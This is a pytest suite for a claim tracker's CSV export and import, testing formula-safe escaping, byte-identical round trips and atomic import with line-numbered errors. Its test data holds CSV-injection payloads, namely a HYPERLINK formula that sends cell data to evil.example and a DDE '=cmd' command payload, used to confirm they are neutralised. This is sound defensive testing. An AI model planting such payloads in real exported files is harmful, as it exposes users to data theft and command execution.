"""CSV export and import: RFC 4180, formula-safe, lossless round trip, all-or-nothing."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlmodel import Session, func, select

from tracker import queries, services
from tracker.errors import ImportFailed
from tracker.interchange.csv_export import CSV_COLUMNS, export_csv_bytes
from tracker.interchange.csvsafe import escape_cell, is_formula_safe, unescape_cell
from tracker.models import Claim, ClaimUpdate, Event
from tracker.services import import_claims_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "'=already quoted",
    'Quotes "inside", commas, and\nnew lines',
    "Ünïcödé — “curly” ‘quotes’ 中文 🚀",
]


def export(session: Session, **filters: object) -> bytes:
    session.expire_all()
    return export_csv_bytes(session=session, filters=queries.ClaimFilter(**filters))  # type: ignore[arg-type]


def rows_of(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def table_counts(session: Session) -> tuple[int, int]:
    session.expire_all()
    return (
        session.exec(select(func.count()).select_from(Claim)).one(),
        session.exec(select(func.count()).select_from(Event)).one(),
    )


def set_claim_text(session: Session, claim_id: int, text: str) -> None:
    services.update_claim(
        session=session,
        claim_id=claim_id,
        changes=ClaimUpdate(claim=text),
        actor="editor",
        expected_version=queries.get_claim(session=session, claim_id=claim_id).version,
    )


@pytest.mark.parametrize("cell", [*HOSTILE, "plain", "", "'", "''=x", "-", "=", "a=b"])
def test_escape_round_trips_and_is_formula_safe(cell: str) -> None:
    escaped = escape_cell(cell)
    assert unescape_cell(escaped) == cell
    assert is_formula_safe(escaped)


@given(st.text())
def test_escape_round_trip_property(cell: str) -> None:
    escaped = escape_cell(cell)
    assert unescape_cell(escaped) == cell
    assert is_formula_safe(escaped)


def test_export_has_stable_columns_and_one_row_per_claim(seeded: Session) -> None:
    data = export(seeded)
    assert data.split(b"\r\n", 1)[0].decode() == ",".join(CSV_COLUMNS)
    rows = rows_of(data)
    assert len(rows) == queries.count_claims(session=seeded)
    assert [int(r["claim_id"]) for r in rows] == sorted(int(r["claim_id"]) for r in rows)


def test_export_filters_match_the_claims_list(seeded: Session) -> None:
    services.add_source(
        session=seeded, claim_id=3, url="https://a.example/x", stance="supports", actor="ana"
    )
    services.add_source(
        session=seeded, claim_id=3, url="https://b.example/y", stance="refutes", actor="ana"
    )
    services.review_claim(
        session=seeded, claim_id=3, status="verified", actor="ana", expected_version=1
    )
    rows = rows_of(export(seeded, status=["verified"]))
    assert [r["claim_id"] for r in rows] == ["3"]
    row = rows[0]
    assert (row["source_count"], row["supporting"], row["refuting"]) == ("2", "1", "1")
    assert row["source_urls"].split("\n") == ["https://a.example/x", "https://b.example/y"]
    assert row["last_reviewed_by"] == "ana" and row["last_reviewed_at"].endswith("+00:00")
    assert len(rows_of(export(seeded, search="HBM4"))) == queries.count_claims(
        session=seeded, filters=queries.ClaimFilter(search="HBM4")
    )


def test_hostile_cells_survive_and_pandas_agrees_with_csv(seeded: Session) -> None:
    for claim_id, text in enumerate(HOSTILE, start=1):
        set_claim_text(seeded, claim_id, text)
    data = export(seeded)
    rows = rows_of(data)
    frame = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
    assert list(frame.columns) == list(CSV_COLUMNS)
    assert frame.to_dict("records") == rows
    for row in rows:
        for value in row.values():
            assert is_formula_safe(value), value
    by_id = {int(r["claim_id"]): unescape_cell(r["claim"]) for r in rows}
    for claim_id, text in enumerate(HOSTILE, start=1):
        assert by_id[claim_id] == text.strip()


def test_export_import_export_is_byte_identical(seeded: Session, tmp_path: Path) -> None:
    for claim_id, text in enumerate(HOSTILE, start=1):
        set_claim_text(seeded, claim_id, text)
    services.add_note(session=seeded, claim_id=2, body="=cmd|' /C calc'!A0", actor="ana")
    first = export(seeded)
    before = table_counts(seeded)
    report = import_claims_csv(session=seeded, data=first, actor="editor")
    assert (report.updated, report.created, report.unchanged) == ([], [], report.rows)
    assert table_counts(seeded) == before  # unchanged rows: no version bump, no event
    assert export(seeded) == first


def test_import_updates_through_the_rules_and_audit_trail(seeded: Session) -> None:
    rows = rows_of(export(seeded))
    rows[0]["claim"] = "=Edited claim text"
    rows[1]["assignee"] = "bob"
    rows[2]["status"] = "in_review"
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=CSV_COLUMNS, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows({k: escape_cell(v) for k, v in r.items()} for r in rows)
    report = import_claims_csv(session=seeded, data=out.getvalue().encode(), actor="editor")
    assert report.updated == [1, 2, 3]
    seeded.expire_all()
    assert queries.get_claim(session=seeded, claim_id=1).claim == "=Edited claim text"
    assert queries.get_claim(session=seeded, claim_id=2).assignee == "bob"
    c3 = queries.get_claim(session=seeded, claim_id=3)
    assert (c3.status, c3.version, c3.last_reviewed_by) == ("in_review", 2, "editor")
    actions = [e.action for e in queries.claim_detail(session=seeded, claim_id=1).events]
    assert actions == ["created", "edit"]


def test_import_creates_claims_located_in_the_article(seeded: Session) -> None:
    header = "claim_id,article,section,claim,quote,claim_type,status,flag_reason,assignee\r\n"
    body = "\r\n".join(
        [
            ",trainium3-silicon-sovereignty,,Neuron fuses ops,Kernel Fusion,capability,,,",
            ",trainium3-silicon-sovereignty,,Ring bus,The Ring Bus,capability,unreviewed,,carol",
        ]
    )
    report = import_claims_csv(session=seeded, data=(header + body).encode(), actor="editor")
    assert len(report.created) == 2
    new = queries.get_claim(session=seeded, claim_id=report.created[1])
    assert (new.origin, new.assignee, new.status) == ("imported", "carol", "unreviewed")
    article = queries.get_article(session=seeded, slug=new.article)
    assert article.text[new.quote_start : new.quote_end] == "The Ring Bus"


def test_bad_rows_are_all_reported_and_nothing_is_written(seeded: Session) -> None:
    rows = rows_of(export(seeded))[:6]
    rows[0]["status"] = "done"
    rows[1]["claim_id"] = "999999"
    rows[2]["version"] = "7"
    rows[3]["claim"] = "ok edit that must not land"
    rows[4]["status"] = "verified"  # no source
    rows[5]["claim_type"] = "rumour"
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=CSV_COLUMNS, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    before = table_counts(seeded)
    with pytest.raises(ImportFailed) as info:
        import_claims_csv(
            session=seeded, data=out.getvalue().encode(), actor="editor", source="x.csv"
        )
    message = str(info.value)
    assert message.startswith("x.csv: 5 problem(s), nothing imported")
    assert "line 2, field 'status', value 'done': unknown status; allowed: unreviewed" in message
    assert "line 3, field 'claim_id', value '999999': no such claim" in message
    assert "line 4, field 'version', value '7': claim 3 is at version 1" in message
    assert "line 6: verify needs at least one supporting source" in message
    assert "line 7, field 'claim_type', value 'rumour': unknown claim_type" in message
    assert table_counts(seeded) == before
    assert queries.get_claim(session=seeded, claim_id=4).claim != "ok edit that must not land"


def test_dry_run_validates_only(seeded: Session) -> None:
    rows = rows_of(export(seeded))[:1]
    rows[0]["claim"] = "changed"
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=CSV_COLUMNS, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    before = table_counts(seeded)
    report = import_claims_csv(
        session=seeded, data=out.getvalue().encode(), actor="editor", dry_run=True
    )
    assert report.updated == [1] and report.dry_run
    assert table_counts(seeded) == before
    assert queries.get_claim(session=seeded, claim_id=1).claim != "changed"


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"claim_id,article\r\n1,x\r\n", "line 1: missing column(s): section, claim, quote"),
        (
            b"claim_id,article,section,claim,quote,claim_type,status,flag_reason,assignee,status\r\n",
            "line 1, field 'status': column appears more than once",
        ),
        (
            b"claim_id;article;section;claim;quote;claim_type;status;flag_reason;assignee\r\n",
            "the header is separated by semicolons",
        ),
        (
            b"claim_id,article,section,claim,quote,claim_type,status,flag_reason,assignee\r\n"
            b"1,a,b,\xff\xfe,q,other,,,\r\n",
            "line 2: not valid UTF-8 (byte b'\\xff' at offset",
        ),
        (
            b"claim_id,article,section,claim,quote,claim_type,status,flag_reason,assignee,stauts\r\n",
            "unknown column(s): 'stauts'",
        ),
        (
            b"claim_id,article,section,claim,quote,claim_type,status,flag_reason,assignee\r\n1,2\r\n",
            "line 2: has 2 cells but the header has 9 columns",
        ),
        (b"", "line 1: the file is empty"),
    ],
)
def test_malformed_files_are_refused_with_a_line_number(
    seeded: Session, data: bytes, message: str
) -> None:
    before = table_counts(seeded)
    with pytest.raises(ImportFailed, match="nothing imported") as info:
        import_claims_csv(session=seeded, data=data, actor="editor", source="bad.csv")
    assert message in str(info.value)
    assert table_counts(seeded) == before


SAFE_TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cc", "Cs"), whitelist_characters="\n\t"),
    min_size=1,
    max_size=200,
).filter(lambda s: s.strip())


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(text=SAFE_TEXT)
def test_any_claim_text_survives_export_import_export(seeded: Session, text: str) -> None:
    if queries.get_claim(session=seeded, claim_id=1).claim != text.strip():
        set_claim_text(seeded, 1, text)
    first = export(seeded, ids=[1, 2])
    for row in rows_of(first):
        assert all(is_formula_safe(v) for v in row.values())
    import_claims_csv(session=seeded, data=first, actor="editor")
    assert export(seeded, ids=[1, 2]) == first
    assert queries.get_claim(session=seeded, claim_id=1).claim == text.strip()
